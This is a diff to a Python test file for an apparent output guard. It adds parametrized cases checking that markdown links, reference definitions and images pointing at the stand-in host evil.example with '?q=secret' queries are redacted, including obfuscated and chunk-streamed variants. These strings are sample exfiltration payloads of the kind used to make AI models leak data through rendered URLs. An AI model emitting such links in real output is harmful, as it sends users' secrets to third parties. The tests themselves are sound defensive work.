@@ -86,13 +86,53 @@ def test_a_disguised_canary_is_caught_however_it_arrives(disguise: str) -> None:
         assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == one
 
 
+LABELS = [
+    "x](  https://evil.example/?q=secret) y",
+    '[{"id":1,"x":"y"}](https://evil.example/?q=secret) and',
+    '["a","b"](  https://evil.example/?q=s) z',
+    '[ \n {"a": [1,2]}](https://evil.example/?q=s) z',
+    '["x"](\n\n https://evil.example/?q=1 "t i" ) m',
+    '["x"](  <https://evil.example/?q=1> "t") m',
+    '["x"]: https://evil.example/?q=1 more',
+    '["x"]:\n https://evil.example/?q=1 more',
+    '[\u200b{"x":1}](https://evil.example/?q=1) m',
+    '[\uff5b"x":1}](https://evil.example/?q=1) m',
+    '![{"x":1}](https://evil.example/?q=1) m',
+    "[" + "word " * 45 + "]: https://evil.example/?q=secret y",
+]
+
+
+@pytest.mark.parametrize("text", LABELS)
+def test_a_label_that_may_have_left_changes_nothing(text: str) -> None:
+    one = streamed([text])
+    assert one.action is Action.REDACT
+    assert "evil.example" not in one.text
+    for size in (1, 2, 5):
+        assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == one
+    assert GUARD.whole(ChannelKind.TEXT, text).text == one.text
+
+
 PIECES = st.one_of(
     st.sampled_from([example for _, example in EXAMPLES]),
     st.sampled_from(DISGUISED),
     st.text(max_size=12),
     st.text("abc 0123456789-./+()=:;,!?[]<>{}\"'`@#%&*_~\n\u200b\u0301é中", max_size=30),
     st.sampled_from(
-        ["the parcel will arrive on Monday ", "in 2024 ", "A ", "password: ", "![", "](", "<img src=", "Q" * 90]
+        [
+            "the parcel will arrive on Monday ",
+            "in 2024 ",
+            "A ",
+            "password: ",
+            "![",
+            "](",
+            "<img src=",
+            "Q" * 90,
+            '[{"a":"',
+            '"}]',
+            "]: ",
+            "](  ",
+            "https://evil.example/?q=1",
+        ]
     ),
 )
 
